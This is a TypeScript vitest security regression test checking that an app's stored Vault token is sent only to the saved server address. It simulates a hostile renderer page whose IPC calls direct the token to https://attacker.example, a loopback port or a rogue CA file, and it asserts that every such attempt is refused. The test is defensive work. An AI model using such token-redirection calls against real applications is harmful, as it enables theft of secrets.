/**
 * Issue 9, finding 9 (attacker UI: a compromised renderer page). The page calls `transit:test`
 * with its own server address and an EMPTY token, hoping main fills in the stored Vault token and
 * sends it there. It also tries the two-step version: `transit:set` to its address without a token
 * (keeping the stored one), then anything that connects.
 *
 * Proof that this test catches the old code: with main/services/transit.ts of commit e93c914
 * (`git show e93c914:main/services/transit.ts > main/services/transit.ts`) both tests fail: the
 * recording port receives `hvs.STORED-SECRET` for https://attacker.example. The positive
 * control below shows the recorder does see the stored token when it legitimately goes to the
 * saved server.
 */
import { existsSync } from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { TransitConnection, TransitPort } from '../../main/services/transit';
import { hostilePage, type HostilePage } from './helpers-ui';

const STORED = 'hvs.STORED-SECRET';
const SAVED = { address: 'https://vault.corp.example:8200', namespace: '', mount: 'transit', keyName: 'kek', caCertPath: '', clientCertPath: '', clientKeyPath: '' };

function recorder(): { port: TransitPort; seen: TransitConnection[] } {
  const seen: TransitConnection[] = [];
  return {
    seen,
    port: {
      recipient: async (c) => (seen.push(c), `vault-transit:${c.mount}/${c.keyName}@${c.address}`),
      identity: async () => {
        throw new Error('not used');
      },
      test: async (c) => (seen.push(c), { ok: true, message: 'reached', keyVersions: 1 }),
    },
  };
}

const tokensSentTo = (seen: TransitConnection[], address: string): string[] => seen.filter((c) => c.address === address && c.auth.method === 'token').map((c) => (c.auth as { token: string }).token);

describe('hostile UI: the stored Vault token goes only to the saved, allowlisted address (finding 9)', () => {
  let app: HostilePage;
  afterEach(async () => app?.close());

  it('transit:test with an empty token and a foreign address does not send the stored token', async () => {
    const { port, seen } = recorder();
    app = await hostilePage({ transitPort: port });
    // The person saved a connection with a token.
    const saved = await app.call('transit:set', { ...SAVED, auth: { method: 'token', token: STORED } });
    expect(saved.ok).toBe(true);

    // Positive control: the stored token does reach the saved server (the recorder works).
    const good = await app.call('transit:test', { ...SAVED, auth: { method: 'token' } });
    expect(good).toMatchObject({ ok: true, value: { ok: true } });
    expect(tokensSentTo(seen, SAVED.address)).toContain(STORED);

    // The attack: the page's own server, token left empty.
    for (const address of ['https://attacker.example', 'https://vault.corp.example:8201', 'http://127.0.0.1:9999']) {
      const r = await app.call('transit:test', { ...SAVED, address, auth: { method: 'token' } });
      expect(r.ok).toBe(false);
      expect(!r.ok && r.error.message).toMatch(/only sent to the saved address/);
      expect(tokensSentTo(seen, address)).toEqual([]);
    }
    // Same server but the page's own CA file (a TLS interception attempt): refused too.
    const ca = await app.call('transit:test', { ...SAVED, caCertPath: path.join(app.dir, 'evil-ca.pem'), auth: { method: 'token' } });
    expect(ca.ok).toBe(false);
    // A token the page types itself is its own business: that one may go anywhere the form says.
    const typed = await app.call('transit:test', { ...SAVED, address: 'https://attacker.example', auth: { method: 'token', token: 'hvs.TYPED' } });
    expect(typed.ok).toBe(true);
    expect(JSON.stringify(seen.filter((c) => c.address !== SAVED.address))).not.toContain(STORED);
  });

  it('transit:set to a new address without a token forgets the stored token instead of carrying it over', async () => {
    const { port, seen } = recorder();
    app = await hostilePage({ transitPort: port });
    await app.call('transit:set', { ...SAVED, auth: { method: 'token', token: STORED } });
    const secretFile = path.join(app.dir, 'data', 'transit-secret.bin');
    expect(existsSync(secretFile)).toBe(true);
    const moved = await app.call('transit:set', { ...SAVED, address: 'https://attacker.example', auth: { method: 'token' } });
    expect(moved).toMatchObject({ ok: true, value: { secretStored: false } });
    expect(existsSync(secretFile)).toBe(false);
    // Whatever connects now (activate, recipient, test) has no stored token to send.
    await app.call('transit:test', { ...SAVED, address: 'https://attacker.example', auth: { method: 'token' } });
    await app.services.transit.recipient().catch(() => undefined);
    expect(tokensSentTo(seen, 'https://attacker.example')).toEqual([]);
  });
});
